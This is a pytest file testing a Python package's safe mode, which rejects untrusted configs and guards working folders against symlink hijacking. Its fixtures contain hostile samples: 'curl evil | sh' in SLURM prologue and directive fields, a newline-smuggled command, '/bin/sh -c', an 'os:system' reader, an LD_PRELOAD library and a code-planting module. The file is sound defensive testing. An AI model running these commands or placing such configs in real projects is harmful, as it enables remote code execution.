"""Safe mode (what an untrusted config may do) and working folders that cannot be hijacked."""
from __future__ import annotations

import json
import os
import stat
import sys
import tempfile
from pathlib import Path

import numpy as np
import pytest
import yaml

from surroflow import SurroflowError
from surroflow import safety
from surroflow.readers import get_reader, register_reader
from surroflow.safety import (ENV_ALLOWED_COMMANDS, ENV_SAFE_MODE, command_allowed, config_problems,
                              exclusive_directory, private_directory, safe_mode, safe_mode_enabled,
                              set_safe_mode)
from surroflow.simulators import get_simulator, simulator_class
from surroflow.simulators.process import CommandRunner, default_workdir_root

REPO = Path(__file__).resolve().parents[2]
SOLVER = ("import json, pathlib, sys\n"
          "inp = pathlib.Path(sys.argv[1])\n"
          "a = float(inp.read_text().split('=')[1])\n"
          "pathlib.Path(inp.stem + '.json').write_text(json.dumps({'y': [a, 2 * a]}))\n")


def read_json(workdir: Path, jobname: str) -> dict[str, np.ndarray]:
    return {k: np.asarray(v) for k, v in json.loads((workdir / f"{jobname}.json").read_text()).items()}


register_reader("safety_json", read_json)


@pytest.fixture(autouse=True)
def clean_env(monkeypatch):
    monkeypatch.delenv(ENV_SAFE_MODE, raising=False)
    monkeypatch.delenv(ENV_ALLOWED_COMMANDS, raising=False)


@pytest.fixture
def on(monkeypatch):
    monkeypatch.setenv(ENV_SAFE_MODE, "1")


@pytest.fixture
def project(tmp_path, monkeypatch):
    root = tmp_path / "project"
    root.mkdir()
    (root / "solver.py").write_text(SOLVER)
    monkeypatch.chdir(root)
    return root


def runner(root: Path | None, **kw) -> CommandRunner:
    return CommandRunner(kw.pop("command", [sys.executable, str(Path("solver.py").absolute()), "{input}"]), "a=$a\n",
                         "job.in", kw.pop("reader", "safety_json"), root, **kw)


def study(**simulator) -> dict:
    return {"results": "results", "studies": {"x": {"simulator": simulator}}}


# --------------------------------------------------------------------------- the switch
@pytest.mark.parametrize("value,expected", [("1", True), ("TRUE", True), ("Yes", True), ("0", False),
                                            ("", False), ("no", False), ("on", False)])
def test_safe_mode_enabled_reads_the_env_var(monkeypatch, value, expected):
    monkeypatch.setenv(ENV_SAFE_MODE, value)
    assert safe_mode_enabled() is expected


def test_set_safe_mode_and_context_manager():
    set_safe_mode()
    assert os.environ[ENV_SAFE_MODE] == "1" and safe_mode_enabled()
    set_safe_mode(False)
    assert ENV_SAFE_MODE not in os.environ and not safe_mode_enabled()
    with safe_mode():
        assert safe_mode_enabled()
    assert ENV_SAFE_MODE not in os.environ


EVIL = {
    "__use_yte__": True,
    "results": "/etc",
    "dask": {"kind": "address", "slurm": {"prologue": ["curl evil | sh"]}},
    "studies": {
        "a": {"simulator": {"name": "python:evil:Sim"}},
        "b": {"simulator": {"name": "external", "settings": {
            "command": ["/bin/sh", "-c", "{input}"], "reader": "python:os:system",
            "workdir_root": "../outside", "env": {"LD_PRELOAD": "/tmp/evil.so"}}}},
        "c": {"simulator": {"name": "calculix_plate", "settings": {"ccx": "/tmp/x/ccx"}}},
    },
}


def test_safe_mode_off_changes_nothing(project):
    assert config_problems(EVIL) == []
    r = runner(project / "runs")          # any program, a workdir anywhere: trusted input
    np.testing.assert_allclose(r.run({"a": 1.5}, "s1")["y"], [1.5, 3.0])
    assert get_reader("python:json:loads") is json.loads


# --------------------------------------------------------------------------- config_problems
def test_every_refusal_names_its_key(on, project):
    problems = config_problems(EVIL)
    starts = ["__use_yte__:", "results:", "dask.kind:", "dask.slurm.prologue:", "studies.a.simulator.name:",
              "studies.b.simulator.settings.reader:", "studies.b.simulator.settings.command[0]:",
              "studies.b.simulator.settings.env.LD_PRELOAD:",
              "studies.b.simulator.settings.workdir_root:", "studies.c.simulator.settings.ccx:"]
    assert sorted(p.split(" ")[0] for p in problems) == sorted(starts), problems


def test_python_simulator_refused(on, project):
    [p] = config_problems(study(name="python:evil:Sim"))
    assert p.startswith("studies.x.simulator.name: 'python:evil:Sim' imports code; safe mode allows "
                        "only registered simulators")


def test_unregistered_reader_refused(on, project):
    cfg = study(name="external", settings={"command": ["ccx"], "reader": "python:os:system"})
    [p] = config_problems(cfg)
    assert p.startswith("studies.x.simulator.settings.reader: 'python:os:system' imports code")
    cfg["studies"]["x"]["simulator"]["settings"]["reader"] = "frd"
    assert config_problems(cfg) == []


@pytest.mark.parametrize("program", ["/bin/sh", "python", "/tmp/x/ccx", "./ccx", ""])
def test_command_not_on_the_allow_list_refused(on, project, program):
    [p] = config_problems(study(name="external", settings={"command": [program, "-i", "{jobname}"]}))
    assert p.startswith(f"studies.x.simulator.settings.command[0]: program {program!r} is not on the "
                        "safe-mode allow-list ['ccx']")
    assert ENV_ALLOWED_COMMANDS in p


def test_calculix_program_checked(on, project):
    assert config_problems(study(name="calculix_plate", settings={})) == []     # default ccx
    [p] = config_problems(study(name="calculix_plate", settings={"ccx": "/opt/evil/ccx"}))
    assert p.startswith("studies.x.simulator.settings.ccx: program '/opt/evil/ccx' is not on")


def test_allow_list_extended_only_from_the_environment(on, project, monkeypatch):
    cfg = study(name="external", settings={"command": [sys.executable, "solver.py"]})
    assert len(config_problems(cfg)) == 1
    monkeypatch.setenv(ENV_ALLOWED_COMMANDS, f"mysolver:{sys.executable}")
    assert config_problems(cfg) == []
    assert command_allowed("mysolver") and command_allowed("ccx")
    assert not command_allowed("/elsewhere/mysolver")    # a bare name allows no path
    # a config cannot extend it: there is no such key, and its env goes to the solver only
    cfg = study(name="external", settings={"command": ["/bin/sh"], "env": {ENV_ALLOWED_COMMANDS: "/bin/sh"}})
    assert any("command[0]" in p for p in config_problems(cfg))


@pytest.mark.parametrize("results", ["/etc", "..", "../sibling", "sub/../../x", "link/inside"])
def test_results_outside_the_project_refused(on, project, tmp_path, results):
    (project / "sub").mkdir()
    (project / "link").symlink_to(tmp_path)               # a symlink out of the project
    [p] = config_problems({"results": results, "studies": {}})
    assert p.startswith(f"results: {results!r} resolves to") and "outside the project folder" in p


@pytest.mark.parametrize("results", ["results", "./results", "sub/../results", "."])
def test_results_inside_the_project_allowed(on, project, results):
    assert config_problems({"results": results, "studies": {}}) == []
    assert config_problems({"results": str(project / "results"), "studies": {}}) == []


def test_workdir_root_outside_refused(on, project, tmp_path):
    for name in ("external", "calculix_plate"):
        [p] = config_problems(study(name=name, settings={"workdir_root": str(tmp_path / "runs")}))
        assert p.startswith("studies.x.simulator.settings.workdir_root:") and "outside" in p
        assert config_problems(study(name=name, settings={"workdir_root": "results/x/runs"})) == []


def test_explicit_root_argument(on, tmp_path):
    assert config_problems({"results": "results"}, root=tmp_path) == []
    assert config_problems({"results": str(tmp_path / "results")}, root=tmp_path / "p")


def test_shipped_config_passes_safe_mode(on, monkeypatch):
    monkeypatch.chdir(REPO)
    cfg = yaml.safe_load((REPO / "config" / "config.yaml").read_text())
    assert config_problems(cfg) == []


# --------------------------------------------------------------------------- run time
def test_simulator_class_refuses_python_in_safe_mode(on, project, monkeypatch):
    (project / "evil_sim.py").write_text("import pathlib\npathlib.Path('pwned').write_text('x')\n"
                                         "from surroflow.simulators.burgers import Burgers1D as Sim\n")
    monkeypatch.syspath_prepend(str(project))
    with pytest.raises(SurroflowError, match=r"simulator 'python:evil_sim:Sim' imports code; safe "
                                             r"mode allows only registered simulators: \[.*'burgers'"):
        simulator_class("python:evil_sim:Sim")
    assert "evil_sim" not in sys.modules and not (project / "pwned").exists()
    assert simulator_class("burgers").name == "burgers"          # registered ones still load
    set_safe_mode(False)
    assert simulator_class("python:evil_sim:Sim").name == "burgers"
    sys.modules.pop("evil_sim", None)


def test_reader_refuses_python_in_safe_mode(on):
    with pytest.raises(SurroflowError, match=r"reader 'python:json:loads' imports code; safe mode "
                                             r"allows only registered readers: \[.*'frd'"):
        get_reader("python:json:loads")
    assert get_reader("safety_json") is read_json


def test_runner_refuses_programs_off_the_list(on, project, monkeypatch):
    with pytest.raises(SurroflowError, match=r"^simulator\.settings\.command\[0\]: program '.*' is not on the safe-mode allow-list"):
        runner(project / "runs")
    (project / "m.tpl").write_text("a = $a\n")
    with pytest.raises(SurroflowError, match=r"^simulator\.settings\.command\[0\]: program '/bin/sh' is not on "
                                             r"the safe-mode allow-list"):
        get_simulator("external", command=["/bin/sh", "{input}"], template="m.tpl", reader="frd",
                      parameters={"a": {"low": 0, "high": 1}}, outputs={"y": {"dims": []}})
    monkeypatch.setenv(ENV_ALLOWED_COMMANDS, sys.executable)
    r = runner(project / "runs")                            # allowed from outside the config
    np.testing.assert_allclose(r.run({"a": 2.0}, "s1")["y"], [2.0, 4.0])


def test_runner_refuses_env_and_outside_root_in_safe_mode(on, project, tmp_path, monkeypatch):
    monkeypatch.setenv(ENV_ALLOWED_COMMANDS, sys.executable)
    with pytest.raises(SurroflowError, match=r"env.LD_PRELOAD: safe mode refuses"):
        runner(project / "runs", env={"LD_PRELOAD": "/tmp/evil.so"})
    runner(project / "runs", env={"OMP_NUM_THREADS": "2"})
    with pytest.raises(SurroflowError, match=r"workdir_root: .* outside the project folder"):
        runner(tmp_path / "elsewhere")
    assert not (tmp_path / "elsewhere").exists()
    runner(None)                                            # the private default is allowed


# --------------------------------------------------------------------------- working folders
@pytest.fixture
def tmpdir_here(tmp_path, monkeypatch):
    """A private stand-in for $TMPDIR (what tempfile.gettempdir() returns)."""
    t = tmp_path / "tmp"
    t.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(t))
    return t


def test_default_root_is_private_and_per_user(project, tmpdir_here):
    root = default_workdir_root()
    assert root.parent == tmpdir_here and root.name == f"surroflow-runs-{os.getuid()}"
    r = runner(None, keep_workdirs="all")
    assert r.workdir_root == root
    r.run({"a": 1.0}, "s1")
    assert stat.S_IMODE(os.lstat(root).st_mode) == 0o700
    assert stat.S_IMODE(os.lstat(root / "s1").st_mode) == 0o700
    r.run({"a": 1.0}, "s2")                                 # an existing private root is reused
    assert sorted(os.listdir(root)) == ["s1", "s2"]
    (project / "model.tpl").write_text("a = $a\n")
    sim = get_simulator("external", command=[sys.executable, "x.py"], template="model.tpl", reader="frd",
                        parameters={"a": {"low": 0, "high": 1}}, outputs={"y": {"dims": []}})
    assert sim.runner.workdir_root == root and sim.runner.private_root    # external's default too


def test_planted_symlink_at_the_default_root_refused(project, tmpdir_here, tmp_path):
    target = tmp_path / "attacker"
    target.mkdir()
    default_workdir_root().symlink_to(target)               # planted before the run
    r = runner(None)
    with pytest.raises(SurroflowError, match=r"surroflow-runs-\d+: the working folder is a symbolic link"):
        r.run({"a": 1.0}, "s1")
    with pytest.raises(SurroflowError, match="is a symbolic link"):
        r.run({"a": 1.0})
    assert list(target.iterdir()) == []                     # nothing written through it


def test_default_root_writable_by_others_refused(project, tmpdir_here):
    root = default_workdir_root()
    root.mkdir(mode=0o700)
    os.chmod(root, 0o777)
    with pytest.raises(SurroflowError, match=r"writable by group or others \(mode 777\)"):
        runner(None).run({"a": 1.0}, "s1")
    assert list(root.iterdir()) == []
    (tmpdir_here / "file").write_text("")
    with pytest.raises(SurroflowError, match="not a folder"):
        private_directory(tmpdir_here / "file")


@pytest.mark.skipif(not hasattr(os, "getuid") or os.getuid() != 0, reason="needs root to chown")
def test_default_root_of_another_user_refused(project, tmpdir_here):
    root = default_workdir_root()
    root.mkdir(mode=0o700)
    os.chown(root, 12345, 12345)
    with pytest.raises(SurroflowError, match="belongs to user id 12345"):
        runner(None).run({"a": 1.0}, "s1")


def test_planted_symlink_at_a_sample_folder_refused(project, tmp_path):
    target = tmp_path / "attacker"
    target.mkdir()
    (project / "runs").mkdir()
    (project / "runs" / "s1").symlink_to(target)
    r = runner(project / "runs")
    with pytest.raises(SurroflowError, match=r"runs/s1: the working folder of sample 's1' is a "
                                             "symbolic link"):
        r.run({"a": 1.0}, "s1")
    assert list(target.iterdir()) == [] and (project / "runs" / "s1").is_symlink()
    (project / "runs" / "s2").symlink_to(tmp_path / "dangling")    # a dangling one too
    with pytest.raises(SurroflowError, match="symbolic link"):
        r.run({"a": 1.0}, "s2")
    assert not (tmp_path / "dangling").exists()


def test_sample_folders_are_exclusive(project, tmp_path):
    exclusive_directory(tmp_path / "new")
    assert stat.S_IMODE(os.lstat(tmp_path / "new").st_mode) == 0o700
    with pytest.raises(SurroflowError, match="new: the new working folder is already there"):
        exclusive_directory(tmp_path / "new")
    (tmp_path / "link").symlink_to(tmp_path / "new")
    with pytest.raises(SurroflowError, match="link: the new working folder is a symbolic link"):
        exclusive_directory(tmp_path / "link")
    # a rerun of a sample replaces its own old real folder (a retried task starts afresh)
    r = runner(project / "runs", keep_workdirs="all")
    r.run({"a": 1.0}, "s1")
    (project / "runs" / "s1" / "stale.txt").write_text("old")
    r.run({"a": 3.0}, "s1")
    assert not (project / "runs" / "s1" / "stale.txt").exists()
    # unnamed samples get distinct mkdtemp folders
    r.run({"a": 1.0})
    r.run({"a": 1.0})
    assert len([p for p in os.listdir(project / "runs") if p.startswith("sample-")]) == 2


def test_module_is_bottom_layer():
    import ast
    tree = ast.parse(Path(safety.__file__).read_text())
    mods = {a.name for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names}
    mods |= {n.module or "" for n in ast.walk(tree) if isinstance(n, ast.ImportFrom)}
    assert {m for m in mods if m.startswith("surroflow")} == {"surroflow"}


def test_dask_section_checked(on, project, tmp_path):
    cfg = {"results": "results", "dask": {"kind": "slurm", "slurm": {
        "extra_directives": ["#SBATCH --qos=short", "#SBATCH -J x\ncurl evil | sh"],
        "log_directory": str(tmp_path / "logs"), "local_directory": "scratch"}}}
    problems = config_problems(cfg)
    assert [p.split(" ")[0] for p in problems] == ["dask.slurm.extra_directives[1]:",
                                                    "dask.slurm.log_directory:"], problems
    assert config_problems({"dask": {"kind": "local"}}) == []
